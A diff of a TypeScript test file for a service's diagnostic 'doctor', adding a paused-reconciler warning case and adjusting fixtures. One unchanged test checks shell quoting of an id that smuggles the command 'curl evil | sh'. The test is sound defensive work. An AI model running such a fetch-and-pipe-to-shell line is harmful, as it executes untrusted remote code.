@@ -30,6 +30,7 @@ const partition: PartitionOverview = {
   watermarks: [],
   parkedKeys: 0,
   openGaps: 0,
+  waits: null,
   paused: false,
   halted: { code: 'gap', reason: 'an event is missing', at: now },
 };
@@ -91,7 +92,7 @@ it.each<[string, readonly Condition[], string, string]>([
   ],
   [
     'a paused consumer',
-    pausedItems([{ ...partition, halted: { code: 'operator_paused', reason: 'paused by ann', at: now } }]),
+    pausedItems([{ ...partition, halted: { code: 'operator_paused', reason: 'paused by ann', at: now } }], 0),
     'warn alarm operator_paused',
     'stock is paused by ann (1 partition)',
   ],
@@ -121,6 +122,12 @@ it.each<[string, readonly Condition[], string, string]>([
     'held',
   ],
   [
+    'a paused reconciler',
+    reconcilerItems([{ ...status, paused: { at: now, by: 'ann', reason: 'a migration' }, leader: null }]),
+    'warn alarm reconcile_paused',
+    'stock-copy is paused by ann: a migration',
+  ],
+  [
     'a reconciler that no process runs',
     reconcilerItems([{ ...status, leader: null }]),
     'warn area',
@@ -145,12 +152,11 @@ it('the doctor quotes an id that an event chose, so that a copied command runs n
   expect(workflow?.next).toBe(`converge workflow show trip 'x'\\''; curl evil | sh #'`);
 });
 
-it('the doctor finds nothing in a sound service, and nothing wrong with a paused reconciler', () => {
-  const paused = { at: now, by: 'ann', reason: 'a migration' };
+it('the doctor finds nothing in a sound service', () => {
   const found = [
     ...parkedItems([{ ...group, state: 'skipped' }]),
     ...haltedItems([{ ...partition, halted: null }]),
-    ...reconcilerItems([{ ...status, paused, leader: null }]),
+    ...reconcilerItems([status]),
   ];
   expect(findings(found)).toEqual([{ check: 'area', verdict: 'ok', text: 'nothing' }]);
 });
